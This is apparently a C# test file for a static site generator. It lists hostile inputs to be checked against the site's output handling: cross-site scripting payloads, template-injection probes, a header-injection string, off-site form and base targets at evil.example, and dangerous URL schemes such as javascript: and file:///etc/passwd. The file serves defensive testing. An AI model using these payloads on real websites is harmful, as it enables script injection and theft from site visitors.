namespace StaticSite.Tests.Hostile;

/// <summary>What an attacker would write where a newspaper expects words.</summary>
public static class Payloads
{
    /// <summary>Would run, or break out, if it were taken for anything but text.</summary>
    public static string[] Texts { get; } =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>",
        "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "` onclick=`alert(1)", "</title><script>alert(1)</script>",
        "</style><iframe src=javascript:alert(1)>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--", "<![CDATA[",
        "<?xml version=\"1.0\"?>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&quot; onclick=&quot;alert(1)", "&#34;&#62;&#60;script&#62;",
        "<a href=\"javascript:alert(1)\">点</a>", "<b onclick=\"alert(1)\">字</b>", "<span style=\"position:fixed\">字</span>",
        "<q cite=\"javascript:alert(1)\">字</q>", "<time datetime=\"1\" id=\"top\" class=\"panel\">字</time>", "<form action=\"//evil.example\"><input name=a>",
        "<base href=\"//evil.example/\">", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=stylesheet href=//evil.example/a.css>",
        "<object data=\"data:text/html,x\">", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<svg><script>alert(1)</script></svg>",
        "<table background=\"javascript:alert(1)\"><tr><td>字", "<ruby>汉<rt onclick=alert(1)>hàn</ruby>", "{汉\"onx=1|<script>alert(1)</script>}",
        "{{ 7 * 191 }}", "{{ include 'page.html' }}", "{% for x in y %}{% endfor %}", "{{ site.newspaper | object.keys }}", "<%= 7 * 191 %>", "${7*191}", "#{7*191}",
        "<p onclick=alert(1) style=position:fixed>字</p>", "<h2 id=top><script>alert(1)</script>字</h2>", "<section class=panel><form action=//evil.example><button formaction=javascript:alert(1)>字</section>",
        "<figure onclick=alert(1)><img src=https://evil.example/a.jpg srcset=//evil.example/b.jpg onerror=alert(1)><figcaption><iframe srcdoc='<script>alert(1)</script>'></iframe>字</figcaption></figure>",
        "<img src=javascript:alert(1) alt=字>", "<img data-src=javascript:alert(1)>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img src=//evil.example/a.jpg>", "<img src='https://a.example/a.jpg\" onerror=\"alert(1)'>",
        "<a href=\" java\nscript:alert(1)\">点</a>", "<a href=//evil.example/>点</a>", "<a href=&#x6A;avascript:alert(1)>点</a>", "<a href=\"java&#x200B;script:alert(1)\">点</a>", "<a href='https://a.example/\" onclick=\"alert(1)'>点</a>",
        "<a href=https://a.example/><a href=https://b.example/><p>点</a></p></a>", "<blockquote cite=javascript:alert(1)><p>字</blockquote>", "<ul onclick=alert(1)><li><style>*{}</style>字<td>字</ul>",
        "<table><tr><td><table></table></table><p>字</td><script>alert(1)</script>", "<b><p><i></b>字</p></i>", "<td title='\"><script>alert(1)</script>'>字", "<p title=\"</p><script>alert(1)</script>\">字</p>", "<center><marquee onstart=alert(1)>字</marquee></center>",
        "<textarea></textarea><script>alert(1)</script>", "<pre><script>alert(1)</script>\n字</pre>", "</p></div></article></main>", "<details open ontoggle=alert(1)><summary>字</summary></details>", "<x-y:z onclick=alert(1)>字</x-y:z>",
        "{onclick=alert(1)}", "{: onclick=alert(1)}", "[^1]: <script>", "| <script> | a |", "\\\" onclick=alert(1)", "%22%3E%3Cscript%3E", "\u2028\u2029</script>",
        "a\r\nSet-Cookie: x=1", "/* /evil 200!\n", "\u0000<script>", "\u202E<script>", "＜script＞alert(1)＜/script＞", "\uFEFF<script>", "😀\"><script>",
    ];

    /// <summary>Those that take the rest of a text with them where it is Markdown.</summary>
    public static string[] Unclosed { get; } = ["<!--"];

    /// <summary>Would run, or leave the site, if it were an address.</summary>
    public static string[] Addresses { get; } =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)",
        "java&#10;script:alert(1)", "java&Tab;script:alert(1)", "java\\script:alert(1)", "%01javascript:alert(1)", "&#1;javascript:alert(1)", "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=", "file:///etc/passwd", "//evil.example/", "/\\evil.example/", "\\\\evil.example\\a",
        "/&#9;/evil.example/", "blob:https://evil.example/1", "filesystem:http://evil.example/", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "ws://evil.example/",
        "jar:https://evil.example!/a", "x:y", "about:blank", "chrome://settings",
    ];
}
